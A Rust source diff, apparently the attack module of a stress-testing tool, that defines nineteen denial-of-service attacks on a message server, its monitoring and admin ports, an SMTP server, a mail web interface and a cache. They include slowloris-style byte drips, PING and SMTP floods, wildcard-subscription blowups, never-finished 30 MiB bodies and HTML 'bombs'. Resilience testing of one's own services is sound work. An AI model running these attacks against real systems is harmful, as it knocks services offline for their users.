@@ -1,0 +1,312 @@
+//! What the attackers do. Each is a few lines over a crowd; none of them keeps to any protocol's manners.
+
+use std::{
+    io::{self, Read, Write},
+    net::{SocketAddr, TcpStream},
+    thread,
+    time::Duration,
+};
+
+use super::{
+    Target, Until,
+    crowd::{Tally, hold},
+};
+
+/// One way to attack.
+pub struct Attack {
+    /// Its name in tables.
+    pub name: &'static str,
+    /// What it tries.
+    pub tries: &'static str,
+    /// `None` where the target lacks the part.
+    run: fn(&Target, &Until) -> Option<Tally>,
+}
+
+/// All of them.
+pub const ATTACKS: [Attack; 19] = [
+    Attack { name: "feed-pong", tries: "PING by the thousand, no PONG read", run: feed_pong },
+    Attack { name: "feed-errors", tries: "lasting errors by the thousand, none read", run: feed_errors },
+    Attack { name: "feed-churn", tries: "SUB and UNSUB without an end", run: feed_churn },
+    Attack {
+        name: "feed-deaf",
+        tries: "subscribed to what it publishes itself, never reading",
+        run: feed_deaf,
+    },
+    Attack {
+        name: "feed-wildcards",
+        tries: "new subjects over thousands of deep wildcards",
+        run: feed_wildcards,
+    },
+    Attack { name: "feed-nobody", tries: "requests that nobody answers", run: feed_nobody },
+    Attack { name: "feed-subjects", tries: "four thousand subjects in turn", run: feed_subjects },
+    Attack { name: "feed-monitor", tries: "monitoring pages as fast as they come", run: feed_monitor },
+    Attack { name: "monitor-idle", tries: "connections to monitoring that say nothing", run: monitor_idle },
+    Attack { name: "admin-idle", tries: "connections to the admin port that drip", run: admin_idle },
+    Attack { name: "smtp-drip", tries: "SMTP, a byte at a time", run: smtp_drip },
+    Attack { name: "smtp-flood", tries: "mails as fast as they are taken", run: smtp_flood },
+    Attack { name: "mail-bodies", tries: "bodies of 30 MiB, never finished", run: mail_bodies },
+    Attack { name: "mail-lists", tries: "long lists with whole letters, hardly read", run: mail_lists },
+    Attack { name: "mail-render", tries: "pages of a tag with 60,000 attributes", run: mail_render },
+    Attack { name: "mail-search", tries: "searches through everything", run: mail_search },
+    Attack { name: "mail-later", tries: "deletions in five minutes, by the hundred", run: mail_later },
+    Attack { name: "pages-drip", tries: "heads of requests, a byte at a time", run: pages_drip },
+    Attack { name: "cache-drip", tries: "the same to the accelerator", run: cache_drip },
+];
+
+/// All attacks at once that fit what is there: what became of each.
+///
+/// # Panics
+/// If an attack does.
+#[must_use]
+pub fn run(target: &Target, until: &Until, only: &[String]) -> Vec<(&'static str, Tally)> {
+    let wanted = |attack: &&Attack| only.is_empty() || only.iter().any(|name| name == attack.name);
+    thread::scope(|scope| {
+        let all: Vec<_> = ATTACKS
+            .iter()
+            .filter(wanted)
+            .map(|attack| (attack.name, scope.spawn(|| (attack.run)(target, until))))
+            .collect();
+        all.into_iter()
+            .filter_map(|(name, thread)| Some((name, thread.join().expect("an attack does not panic")?)))
+            .collect()
+    })
+}
+
+const CONNECT: &str =
+    "CONNECT {\"verbose\":false,\"pedantic\":false,\"headers\":true,\"no_responders\":true}\r\n";
+
+fn feed_pong(target: &Target, until: &Until) -> Option<Tally> {
+    let pings = "PING\r\n".repeat(4096);
+    Some(hold(target.feed?, 64, until, |member| member.pump(pings.as_bytes())))
+}
+
+fn feed_errors(target: &Target, until: &Until) -> Option<Tally> {
+    let wrong = "SUB a..b 1\r\n".repeat(4096);
+    Some(hold(target.feed?, 32, until, |member| member.pump(wrong.as_bytes())))
+}
+
+fn feed_churn(target: &Target, until: &Until) -> Option<Tally> {
+    let churn: String = (0..4096).map(|n| format!("SUB churn.{n}.> {n}\r\nUNSUB {n}\r\n")).collect();
+    Some(hold(target.feed?, 16, until, |member| {
+        member.pump(churn.as_bytes())?;
+        member.sip(1 << 16)
+    }))
+}
+
+fn feed_deaf(target: &Target, until: &Until) -> Option<Tally> {
+    let mut all = format!("{CONNECT}SUB deaf.> 1\r\n");
+    let payload = "x".repeat(8192);
+    for _ in 0..64 {
+        all += &format!("PUB deaf.a {}\r\n{payload}\r\n", payload.len());
+    }
+    Some(hold(target.feed?, 64, until, |member| member.pump(all.as_bytes())))
+}
+
+/// Every way to write `*` or `a` at thirteen places: a subject of thirteen `a` walks them all, and reaches none.
+fn feed_wildcards(target: &Target, until: &Until) -> Option<Tally> {
+    const DEEP: u32 = 13;
+    let mut patterns = String::from(CONNECT);
+    for n in 0..1_u32 << DEEP {
+        let tokens: Vec<&str> = (0..DEEP).map(|at| if n >> at & 1 == 1 { "*" } else { "a" }).collect();
+        patterns += &format!("SUB {}.end {n}\r\n", tokens.join("."));
+    }
+    let path = vec!["a"; DEEP as usize].join(".");
+    let subjects: String = (0..3000).map(|n| format!("PUB {path}.{n} 0\r\n\r\n")).collect();
+    Some(hold(target.feed?, 4, until, |member| {
+        if member.number == 0 {
+            return member.finish(patterns.as_bytes());
+        }
+        member.pump(subjects.as_bytes())?;
+        member.sip(1 << 16)
+    }))
+}
+
+fn feed_nobody(target: &Target, until: &Until) -> Option<Tally> {
+    let mut asked = format!("{CONNECT}SUB back.> 1\r\n");
+    for n in 0..2048 {
+        asked += &format!("PUB nobody.{n} back.{n} 0\r\n\r\n");
+    }
+    Some(hold(target.feed?, 16, until, |member| {
+        member.pump(asked.as_bytes())?;
+        member.sip(1 << 18)
+    }))
+}
+
+fn feed_subjects(target: &Target, until: &Until) -> Option<Tally> {
+    let mut all = format!("{CONNECT}SUB turn.*.> 1\r\n");
+    for n in 0..4000 {
+        all += &format!("PUB turn.{n}.x 4\r\nwork\r\n");
+    }
+    Some(hold(target.feed?, 8, until, |member| {
+        member.pump(all.as_bytes())?;
+        member.sip(1 << 18)
+    }))
+}
+
+fn feed_monitor(target: &Target, until: &Until) -> Option<Tally> {
+    let address = target.monitor?;
+    let asked: String = ["/varz", "/connz?subs=1&limit=1024", "/subsz?subs=1", "/accountz"]
+        .map(|path| format!("GET {path} HTTP/1.1\r\nHost: {address}\r\n\r\n"))
+        .concat();
+    Some(hold(address, 8, until, |member| {
+        member.pump(asked.as_bytes())?;
+        member.sip(1 << 20)
+    }))
+}
+
+fn monitor_idle(target: &Target, until: &Until) -> Option<Tally> {
+    Some(hold(target.monitor?, 200, until, |member| member.sip(1)))
+}
+
+fn admin_idle(target: &Target, until: &Until) -> Option<Tally> {
+    Some(drip(target.admin?, 200, until))
+}
+
+fn pages_drip(target: &Target, until: &Until) -> Option<Tally> {
+    Some(drip(target.pages?, 200, until))
+}
+
+fn cache_drip(target: &Target, until: &Until) -> Option<Tally> {
+    Some(drip(target.cache?, 400, until))
+}
+
+/// Heads that never end, a byte in each half second.
+fn drip(address: SocketAddr, count: usize, until: &Until) -> Tally {
+    let head = format!("GET / HTTP/1.1\r\nHost: {address}\r\n{}", "X-Slow: yes\r\n".repeat(10_000));
+    hold(address, count, until, |member| {
+        if member.age % 50 == 0 { member.drip(head.as_bytes()) } else { member.sip(64) }
+    })
+}
+
+fn smtp_drip(target: &Target, until: &Until) -> Option<Tally> {
+    let session = "EHLO slow.test\r\nMAIL FROM:<slow@slow.test>\r\nRCPT TO:<slow@night.test>\r\nDATA\r\n"
+        .to_owned()
+        + &"slowly\r\n".repeat(10_000);
+    Some(hold(target.smtp?, 200, until, |member| {
+        member.sip(4096)?;
+        if member.age % 20 == 0 { member.drip(session.as_bytes()) } else { Ok(()) }
+    }))
+}
+
+fn smtp_flood(target: &Target, until: &Until) -> Option<Tally> {
+    let mut session = String::from("EHLO flood.test\r\n");
+    let line = "flood flood flood flood flood flood flood flood\r\n".repeat(600);
+    for n in 0..16 {
+        session += &format!(
+            "MAIL FROM:<flood@flood.test>\r\nRCPT TO:<flood{n}@night.test>\r\nDATA\r\nSubject: flood\r\n\r\n{line}.\r\n"
+        );
+    }
+    Some(hold(target.smtp?, 32, until, |member| {
+        member.pump(session.as_bytes())?;
+        member.sip(1 << 16)
+    }))
+}
+
+fn mail_bodies(target: &Target, until: &Until) -> Option<Tally> {
+    let address = target.pages?;
+    // As large as the size that is announced is, but for its last byte: it is held whole and never done.
+    let announced = 30 << 20;
+    let mut head = format!(
+        "POST /inbox/bodies@night.test/api/v1/send HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\n\
+         Content-Length: {announced}\r\n\r\n"
+    )
+    .into_bytes();
+    head.resize(head.len() + announced - 1, b' ');
+    Some(hold(address, 100, until, |member| {
+        member.finish(&head)?;
+        member.sip(4096)
+    }))
+}
+
+fn mail_lists(target: &Target, until: &Until) -> Option<Tally> {
+    let address = target.pages?;
+    for n in 0..8 {
+        let _ = send(
+            target.smtp?,
+            &format!("long{n}@night.test"),
+            &"a long letter, and again\r\n".repeat(40_000),
+        );
+    }
+    let asked: String = (0..8)
+        .map(|n| {
+            format!(
+                "GET /api/v2/domains/night.test/inboxes/long{n}?limit=99&full=true HTTP/1.1\r\nHost: {address}\r\n\r\n"
+            )
+        })
+        .collect();
+    Some(hold(address, 64, until, |member| {
+        member.pump(asked.as_bytes())?;
+        member.sip(64)
+    }))
+}
+
+fn mail_render(target: &Target, until: &Until) -> Option<Tally> {
+    let address = target.pages?;
+    let attributes: String = (0..60_000).map(|n| format!(" a{n}=1\r\n")).collect();
+    let bomb = format!("Content-Type: text/html\r\nSubject: bomb\r\n\r\n<p{attributes}>text</p>\r\n");
+    let nested =
+        format!("Content-Type: text/html\r\nSubject: deep\r\n\r\n{}\r\n", "<div>\r\n".repeat(60_000));
+    let _ = (send(target.smtp?, "bomb@night.test", &bomb), send(target.smtp?, "bomb@night.test", &nested));
+    let list = ask(address, "/inbox/bomb@night.test/api/v1/messages?limit=99").unwrap_or_default();
+    let ids: Vec<&str> = list.split("\"ID\":\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
+    if ids.is_empty() {
+        return Some(Tally::default());
+    }
+    let asked: String = ids
+        .iter()
+        .map(|id| format!("GET /inbox/bomb@night.test/{id}/frame HTTP/1.1\r\nHost: {address}\r\n\r\n"))
+        .collect();
+    Some(hold(address, 16, until, |member| {
+        // Each connection a second's worth, and some leave before their answer.
+        if member.age % 100 == 0 {
+            member.finish(asked.as_bytes())?;
+        }
+        if member.age > 300 && member.number % 2 == 0 {
+            return Err(io::ErrorKind::Interrupted.into());
+        }
+        member.sip(1 << 20)
+    }))
+}
+
+fn mail_search(target: &Target, until: &Until) -> Option<Tally> {
+    let address = target.pages?;
+    let asked: String = (0..64)
+        .map(|n| format!("GET /inbox/long{}@night.test/api/v1/search?query=never{n} HTTP/1.1\r\nHost: {address}\r\n\r\n", n % 8))
+        .collect();
+    Some(hold(address, 32, until, |member| {
+        member.pump(asked.as_bytes())?;
+        member.sip(1 << 16)
+    }))
+}
+
+fn mail_later(target: &Target, until: &Until) -> Option<Tally> {
+    let address = target.pages?;
+    let asked = format!(
+        "GET /api/v2/domains/night.test/inboxes/long0?limit=1&delete=5m HTTP/1.1\r\nHost: {address}\r\n\r\n\
+         GET /api/v2/domains/night.test/inboxes/nobody?limit=1&wait=5m HTTP/1.1\r\nHost: {address}\r\n\r\n"
+    );
+    Some(hold(address, 100, until, |member| {
+        member.finish(asked.as_bytes())?;
+        member.sip(1 << 16)
+    }))
+}
+
+/// A mail by SMTP, politely.
+fn send(smtp: SocketAddr, to: &str, mail: &str) -> io::Result<()> {
+    let mut stream = TcpStream::connect(smtp)?;
+    stream.set_read_timeout(Some(Duration::from_secs(20)))?;
+    for line in ["EHLO siege.test", "MAIL FROM:<siege@siege.test>", &format!("RCPT TO:<{to}>"), "DATA"] {
+        write!(stream, "{line}\r\n")?;
+        thread::sleep(Duration::from_millis(50));
+    }
+    write!(stream, "{mail}\r\n.\r\nQUIT\r\n")?;
+    io::copy(&mut stream, &mut io::sink()).map(drop)
+}
+
+fn ask(address: SocketAddr, path: &str) -> io::Result<String> {
+    let mut stream = TcpStream::connect(address)?;
+    stream.set_read_timeout(Some(Duration::from_secs(20)))?;
+    write!(stream, "GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n")?;
+    let mut text = String::new();
+    stream.read_to_string(&mut text).map(|_| text)
+}
